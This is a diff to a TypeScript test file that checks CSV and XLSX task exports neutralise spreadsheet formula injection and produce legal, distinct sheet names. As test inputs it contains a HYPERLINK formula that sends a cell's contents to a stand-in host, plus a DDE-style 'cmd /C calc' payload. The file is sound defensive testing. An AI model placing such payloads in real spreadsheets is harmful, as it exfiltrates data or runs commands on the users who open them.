@@ -3,6 +3,7 @@
  * export read back with a real reader (csv-parse, exceljs, ical.js, JSON).
  */
 import { readdirSync, readFileSync } from 'node:fs';
+import { unzipSync } from 'fflate';
 import { parse as parseCsv } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import ICAL from 'ical.js';
@@ -24,7 +25,7 @@ import {
   taskStates,
   type Task,
 } from '../src/tasks/index.ts';
-import { csvField } from '../src/tasks/csv.ts';
+import { csvField, neutralizeFormula } from '../src/tasks/csv.ts';
 import { escapeText, foldLine, taskUid } from '../src/tasks/ics.ts';
 import { summarize } from '../src/tasks/text.ts';
 import { sheetName } from '../src/tasks/xlsx.ts';
@@ -383,6 +384,56 @@ describe('XLSX export', () => {
     const long = 'Trung tâm Văn hóa, Thể thao và Truyền thông huyện';
     expect(sheetName(long, taken)).toBe('Trung tâm Văn hóa, Thể thao và…');
     expect(sheetName(long, taken)).toBe('Trung tâm Văn hóa, Thể tha… (2)');
+    expect(sheetName('History', taken)).toBe('History (2)');
+    expect(sheetName(" 'Quote' ", taken)).toBe('Quote');
+    expect(sheetName(`${'x'.repeat(29)}'yyy`, taken)).toBe(`${'x'.repeat(29)}…`);
+    expect(sheetName('😀'.repeat(20), taken)).toBe(`${'😀'.repeat(15)}…`);
+  });
+});
+
+/** The fixture with formula-looking texts and agencies whose names Excel refuses as sheet names. */
+const hostile = fixture
+  .replace("'Báo cáo **kết quả** Chỉ số PCI ([[PCI]]) *đúng hạn*, hoàn thành [[deadline]].'", '\'=HYPERLINK("http://x.invalid/?"&A1,"Bấm") [[deadline]].\'')
+  .replace('Theo dõi, đôn đốc việc thực hiện.', '"@SUM(1+1)*cmd|\' /C calc\'!A0"')
+  .replace('  - agency: Phòng Nội vụ\n', '  - agency: History\n')
+  .replace('    lead: Phòng Tài chính - Kế hoạch\n', "    lead: [\"'Ban: chỉ đạo [x]?'\", 'Trung tâm Văn hóa, Thể thao và Truyền thông huyện A', 'Trung tâm Văn hóa, Thể thao và Truyền thông huyện B', history]\n");
+
+describe('exports of text a spreadsheet would run (OWASP CSV injection)', () => {
+  it('prefixes a quote to fields starting with = + - @, tab or CR, also after spaces; leaves the rest', () => {
+    for (const v of ['=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1', '  =1', '\u00a0=1', '＝1']) expect(neutralizeFormula(v)).toBe(`'${v}`);
+    for (const v of ['', 'a=1', 'Phòng Nội vụ', '2024-02-29', "'quoted"]) expect(neutralizeFormula(v)).toBe(v);
+  });
+
+  it('CSV: formula-looking cells read back as text with the quote prefix', async () => {
+    const text = (await exporters.csv(sortTasks(tasksOf('conclusions/2024/fixture.yaml', hostile)), ctx)) as string;
+    const rows: Record<string, string>[] = parseCsv(text, { bom: true, columns: true });
+    const cells = rows.flatMap((r) => Object.values(r));
+    expect(cells).toContain(`'=HYPERLINK("http://x.invalid/?"&A1,"Bấm") trong tháng 02/2024.`);
+    expect(cells.some((c) => c.startsWith("'@SUM(1+1)"))).toBe(true);
+    expect(cells.filter((c) => /^[\s\u00a0]*[=+\-@\t\r]/.test(c))).toEqual([]);
+  });
+
+  it('XLSX: the same texts are plain strings, never formulas', async () => {
+    const bytes = (await exporters.xlsx(sortTasks(tasksOf('conclusions/2024/fixture.yaml', hostile)), ctx)) as Uint8Array;
+    const parts = unzipSync(bytes);
+    const sheets = Object.keys(parts).filter((p) => /^xl\/worksheets\/sheet\d+\.xml$/.test(p));
+    expect(sheets.length).toBeGreaterThan(3);
+    for (const p of sheets) expect(new TextDecoder().decode(parts[p])).not.toMatch(/<f[ >]/);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
+    const all = book.getWorksheet('Tất cả')!;
+    const values = all.getRows(2, all.rowCount - 1)!.flatMap((r) => (r.values as unknown[]).slice(1));
+    expect(values).toContain('=HYPERLINK("http://x.invalid/?"&A1,"Bấm") trong tháng 02/2024.');
+  });
+
+  it('XLSX: agencies named History, with [ ] : ? and quotes, or over 31 characters alike get legal, distinct sheets', async () => {
+    const bytes = (await exporters.xlsx(sortTasks(tasksOf('conclusions/2024/fixture.yaml', hostile)), ctx)) as Uint8Array;
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
+    const names = book.worksheets.map((s) => s.name);
+    expect(names).toEqual(expect.arrayContaining(['history (2)', 'History (3)', 'Ban- chỉ đạo -x--', 'Trung tâm Văn hóa, Thể thao và…', 'Trung tâm Văn hóa, Thể tha… (2)']));
+    expect(new Set(names.map((n) => n.toLowerCase())).size).toBe(names.length);
+    expect(names.every((n) => n.length <= 31 && !/[:\\/?*[\]]|^'|'$/.test(n) && n.toLowerCase() !== 'history')).toBe(true);
   });
 });
 
